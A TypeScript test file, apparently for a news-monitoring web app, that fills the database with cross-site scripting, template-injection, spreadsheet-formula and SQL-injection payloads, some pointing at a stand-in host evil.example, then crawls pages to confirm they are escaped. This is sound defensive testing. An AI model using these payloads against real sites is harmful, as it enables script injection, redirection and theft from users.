import { deliveryId, publisherId, sourceId } from "@frontwatch/domain";
import { noteAudit, recordPoll, saveDelivery, saveSource } from "@frontwatch/store";
import type { Store } from "@frontwatch/store";
import { tell, town, withDatabase } from "@frontwatch/store/testkit";
import { expect, test } from "vitest";
import { signedIn } from "./signed-in.testkit.ts";

const databases = withDatabase();

/** What pages of all the world might put into a title; each does its evil where it is taken for markup. */
const PAYLOADS = [
  `<script>evil()</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror=evil()>`,
  `<img src=x onerror="evil()"`,
  `"><svg onload=evil()>`,
  `'><svg/onload=evil()>`,
  `" onmouseover="evil()" x="`,
  `' autofocus onfocus='evil()`,
  `" formaction="javascript:evil()`,
  `javascript:evil()`,
  `</title><script>evil()</script>`,
  `</textarea><script>evil()</script>`,
  `</style><script>evil()</script>`,
  `--><script>evil()</script><!--`,
  `<!--<img src="--><img src=x onerror=evil()//">`,
  `]]><script>evil()</script>`,
  `<iframe srcdoc="&lt;script>evil()&lt;/script>"></iframe>`,
  `<math><mtext></p><style><img src=x onerror=evil()>`,
  `<a href="java\tscript:evil()">x</a>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<form action=//evil.example><input name=csrf>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  "`><img src=x onerror=evil()>",
  `{{constructor.constructor('evil()')()}}`,
  `{{{evil}}}`,
  `&lt;script&gt;evil()&lt;/script&gt;`,
  `%3Cscript%3Eevil()%3C/script%3E`,
  `\u202e<b>evil\u2066`,
  `<\u0000script>evil()</script>`.replace("\u0000", ""),
  `＜script＞evil()＜/script＞`,
  `=HYPERLINK("http://evil.example")`,
  `'; DROP TABLE articles; --evil`,
] as const;

async function tellAll(store: Store): Promise<void> {
  const now = Date.now();
  for (const [n, text] of PAYLOADS.entries()) {
    await tell(store, new Date(now - (PAYLOADS.length - n) * 60_000), {
      ...{ publisher: `${n} ${text}`, title: text, text: `${text} ${n}`, url: `https://paper.example/${n}` },
      claims: [
        {
          ...{ quote: text, speaker: { name: text } },
          actors: [{ id: `group-${n}`, name: text, type: "non-state" }],
          places: [{ ...town(`Town ${n}`), name: text }],
        },
      ],
    });
    const id = sourceId(`s${n}`);
    const url = `https://feed.example/${n}?q="><script>evil()</script>`;
    const source = { id, name: text, publisher: publisherId(`p${n}`), publisherName: text, url, everySeconds: 900 };
    await saveSource(store.db, source, new Date(now));
    const poll = { source: id, at: new Date(now), nextPollAt: new Date(now), milliseconds: 1 };
    await recordPoll(store.db, { ...poll, outcome: { kind: "failed", code: "not_a_feed", message: text } });
    await noteAudit(store.db, { who: text, action: text, subject: text, detail: { [text]: text } });
    const row = { id: deliveryId(`d${n}`), subscription: null, edition: null, key: `k${n}`, channel: "email" as const };
    await saveDelivery(store.db, { ...row, recipient: text, message: {}, now: new Date(now) });
  }
  await store.db
    .updateTable("deliveries")
    .set({ state: "failed", reason: PAYLOADS.join(" ") })
    .execute();
  const items = PAYLOADS.map((text, n) => ({
    id: `i${n}`,
    source: `s${n}`,
    url: `javascript:evil(${n})`,
    title: text,
  }));
  const unread = {
    content: "",
    teaser: false,
    published: null,
    seen: new Date(now),
    state: "unread" as const,
    article: null,
  };
  await store.db
    .insertInto("feed_items")
    .values(items.map((item) => ({ ...item, ...unread, reason: item.title, known: new Date(now) })))
    .execute();
}

/** What in a page's tags is not ours: names that a payload has made, handlers, addresses that are no address. */
function strange(html: string): readonly string[] {
  const tags = html.match(/<[a-z!/?][^>]*>/gi) ?? [];
  return tags.filter((tag) => {
    const bare = tag.replace(/="[^"]*"/g, "=");
    const addresses = [...tag.matchAll(/\s(?:href|src|action|formaction)="([^"]*)"/gi)].map(
      ([, address = ""]) => address,
    );
    return (
      /evil|\son\w+|["'`{]/i.test(bare) ||
      /^<(?:script(?! src="\/assets\/)|iframe|object|embed|base|style|meta http)/i.test(tag) ||
      addresses.some((address) => !/^(?:https?:\/\/|\/(?!\/)|[#?]|data:image\/|$)/i.test(address))
    );
  });
}

test("no page takes what others wrote for markup, a script or an address", async () => {
  expect(strange(PAYLOADS.join("\n")).length).toBeGreaterThan(20); // unescaped they are found
  const { get, store } = await signedIn(databases, "operator");
  await tellAll(store);
  const operator = ["sources", "deliveries", "unread", "users", "audit", "suppressions", "opml"];
  const waiting = ["/", "/changes", "/situations", "/archive", "/slack", "/my/subscriptions", "/search?q=evil"];
  waiting.push(...operator.map((page) => `/operator/${page}`), "/operator/sources/s1", "/operator/deliveries/d1");
  waiting.push(
    ...PAYLOADS.slice(0, 8).flatMap((text) => [
      `/search?q=${encodeURIComponent(text)}`,
      `/changes?region=${encodeURIComponent(text)}`,
    ]),
  );
  const seen = new Map<string, number>();
  const found: string[] = [];
  for (let path = waiting.shift(); path !== undefined && seen.size < MOST_PAGES; path = waiting.shift()) {
    if (seen.has(path)) continue;
    const { statusCode, body, headers } = await get(path);
    seen.set(path, statusCode);
    if (!String(headers["content-type"]).startsWith("text/html")) continue;
    found.push(...strange(body).map((tag) => `${path}: ${tag}`));
    if (/[\u202a-\u202e\u2066-\u2069]/.test(body)) found.push(`${path}: reorders text`);
    expect([path, statusCode < 500]).toEqual([path, true]);
    const links = [...body.matchAll(/href="(\/[^"#]*)"/g)].map(([, link = ""]) =>
      link.replaceAll("&amp;", "&").replaceAll("&#x3D;", "="),
    );
    const kinds = new Map(links.filter((link) => FOLLOWED.test(link)).map((link) => [link.split("/")[1], link]));
    waiting.push(...kinds.values());
  }
  expect(found).toEqual([]);
  expect([...seen.keys()].filter((path) => FOLLOWED.test(path)).length).toBeGreaterThan(3);
});

/** Pages of single things, found by following the lists. */
const FOLLOWED = /^\/(?:changes|situations|articles|places|actors)\/[^/]+$/;
const MOST_PAGES = 80;
